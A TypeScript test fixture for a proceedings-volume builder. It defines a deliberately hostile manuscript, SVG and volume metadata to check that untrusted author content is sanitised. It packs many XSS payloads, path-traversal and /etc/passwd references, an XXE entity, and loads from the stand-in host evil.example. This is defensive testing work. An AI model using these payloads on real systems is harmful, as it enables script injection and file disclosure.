// A manuscript that tries everything a stranger could: to run, to reach the network, to read other files, to change another paper's look.
import type { Files } from '../build-volume.ts'

/** Where every attack would call, so that a request or a link is known by it. */
export const evil = 'evil.example'

const dataPage = 'data:text/html,%3Cscript%3Ealert(1)%3C/script%3E'
const inline: readonly string[] = [
  '<script>alert(1)</script>', `<script src="https://${evil}/a.js"></script>`, '<b onclick="alert(1)" onmouseover=alert(1)>жирный</b>', `<img src="https://${evil}/b.png" onerror="alert(1)">`, `<img srcset="https://${evil}/c.png 2x">`,
  `<a href="javascript:alert(1)">а</a>`, `<a href=" java&#10;script:alert(1)">а</a>`, `<a href="${dataPage}">а</a>`, '<a href="file:///etc/passwd">а</a>', '<a href="vbscript:x">а</a>', `<a href="//${evil}/d">а</a>`, '<a href="../other.pdf">а</a>',
  '<a href="#v-good">а</a>', '<a href="https://volume.invalid/to/v-nobody">а</a>', '<a href="http://volume.invalid/font/x">а</a>', `<a href="https://library.example/ok" ping="https://${evil}/e" target="_blank">а</a>`,
  `<span style="background:url(https://${evil}/f.png);position:fixed">о</span>`, '<span class="running-head placeholder late" id="v-good" data-block="v-good--b1" data-formula="0" data-trusted="0.0">о</span>', `<iframe src="https://${evil}/g"></iframe>`,
  `<meta http-equiv="refresh" content="0;url=https://${evil}/h">`, `<link rel="prefetch" href="https://${evil}/i">`, `<link rel="stylesheet" href="https://${evil}/j.css">`, `<base href="https://${evil}/">`, `<form action="https://${evil}/k"><input name="x"><button formaction="javascript:alert(1)">к</button></form>`,
  `<object data="https://${evil}/l"></object>`, `<embed src="https://${evil}/m">`, `<video src="https://${evil}/n" poster="https://${evil}/o"></video>`, `<svg><use href="https://${evil}/p.svg#x"/><foreignObject><body onload="alert(1)"></body></foreignObject><script>alert(1)</script></svg>`,
  `<style>@import "https://${evil}/q.css"; body{color:red}</style>`, `<math><mtext><a href="javascript:alert(1)">м</a></mtext></math>`, `<table background="https://${evil}/r.png"><tr><td>т</td></tr></table>`, '<template><script>alert(1)</script></template>', '<noscript><p title="</noscript><script>alert(1)</script>"></noscript>', '<![CDATA[<script>alert(1)</script>]]>', '<!--><script>alert(1)</script>-->', '<?php alert(1) ?>'
]
const markdown: readonly string[] = [
  '[a](javascript:alert(1))', '<javascript:alert(1)>', `[b](${dataPage})`, '[c](file:///etc/passwd)', '[d](JaVaScRiPt:alert(1))', '[e](java&#115;cript:alert(1))', '[f](../other.pdf)', '[g](https://volume.invalid/to/v-nobody)', '[h](\\\\\\\\host\\\\x)', `[i](//${evil}/s)`, '[j](tel:+7)', '[k](#v-good)',
  '![a](javascript:alert(1))', `![b](https://${evil}/t.png)`, `![c](//${evil}/u.png)`, '![d](../../../../etc/passwd)', '![e](/etc/passwd)', '![f](C:\\\\secret.png)', '![g](\\\\\\\\host\\\\share\\\\x.png)', '![h](file:///etc/passwd)', `![i](${dataPage})`, '![j](http://volume.invalid/image/x.png)', '![k](..%2f..%2fsecret.png)',
  `![l](data:image/svg+xml,${encodeURIComponent(`<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9" onload="alert(1)"><image href="https://${evil}/v.png"/></svg>`)})`, '[l][m]', '![m]', `Слово[^js].`
]
const definitions = `[m]: javascript:alert(1)\n\n[^js]: <a href="javascript:alert(1)">с</a> [с](file:///x)`
const formulas: readonly string[] = ['$\\href{javascript:alert(1)}{x}$', `$\\href{https://${evil}/w}{x}$`, '$\\url{javascript:alert(1)}$', `$\\includegraphics{https://${evil}/x.png}$`, '$\\htmlClass{running-head}{x}$', '$\\htmlId{v-good}{x}$', '$\\htmlStyle{position:fixed}{x}$', '$\\htmlData{x=1}{x}$', '$\\text{<script>alert(1)</script>}$', `$$\\href{javascript:alert(1)}{y}$$`]

export const attack = `---
title: 'Нападение </title><script>alert(1)</script> <img src=x onerror=alert(1)>'
subtitle: '[ссылка](javascript:alert(1)) {{ 7 | times: 7 }}'
authors:
  - { name: '"><script>alert(1)</script> Иванов', affiliation: '<img src=x onerror=alert(1)> Библиотека', email: 'javascript:alert(1)//"><script>alert(1)</script>@a.example', orcid: 'javascript:alert(1)', city: '</script>' }
id: ../../../evil
doi: 'javascript:alert(1)"><script>'
keywords: ['</script><script>alert(1)</script>', '"onmouseover="alert(1)']
abstract: 'О </script><script>alert(1)</script> и [ссылке](javascript:alert(1)).'
bibliography: [../../etc/passwd, /etc/passwd, 'https://${evil}/y.bib']
funding: '<script>alert(1)</script>'
license: 'javascript:alert(1)'
---

${[...inline, ...markdown, ...formulas].map((text, i) => `Опыт ${i + 1}: ${text} конец.`).join('\n\n')}

${inline.join('\n\n')}

${definitions}

![Рисунок](evil.svg){.running-head #fig:x width="1px;position:fixed" alt="x"}
`

export const evilSvg = `<?xml version="1.0"?><?xml-stylesheet href="https://${evil}/z.css"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd"><!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:h="http://www.w3.org/1999/xhtml" width="90" height="90" onload="alert(1)">
<script>alert(1)</script><style>@import "https://${evil}/1.css"; @\\69mport "https://${evil}/2.css"; rect{fill:url(https://${evil}/3.svg#x);background:\\75rl(https://${evil}/4.png)} text{background:image-set("https://${evil}/5.png" 1x)}</style>
<foreignObject><h:body onload="alert(1)"><h:iframe src="https://${evil}/6"/></h:body></foreignObject><use href="https://${evil}/7.svg#x"/><use xlink:href="data:image/svg+xml,%3Csvg/%3E"/><image href="file:///etc/passwd"/><image xlink:href="https://${evil}/8.png"/>
<a xlink:href="javascript:alert(1)"><rect width="9" height="9"/><set attributeName="xlink:href" to="javascript:alert(2)"/><animate attributeName="href" values="javascript:alert(3)"/></a><h:img srcset="https://${evil}/9.png" src="x"/><h:script>alert(1)</h:script>
<rect width="50" height="50" fill="url(#good)" style="filter:url(https://${evil}/10)"/><feImage href="https://${evil}/11"/><rect width="1" height="1" onclick="alert(1)"/><text>Слово</text></svg>`

export const attackFiles: Files = {
  'volume.yml': 'title: "</script><script>alert(1)</script> Сборник"\nlang: ru\nyear: 2008\nheader: full-7.0.7\nsite: https://proceedings.example/2008\npublisher: { name: "</script>Издатель", place: Кемерово }\nsections: [{ title: "<img src=x onerror=alert(1)>", papers: [good, attack/paper] }]\nparts: [title-page, imprint, contents, sections, author-index, colophon]\n',
  'good.md': '---\ntitle: Мирный доклад\nauthors: [Петров Пётр Петрович]\nudk: 1\n---\n\nЕго вида никто не меняет.\n',
  'attack/paper.md': attack, 'attack/evil.svg': evilSvg
}
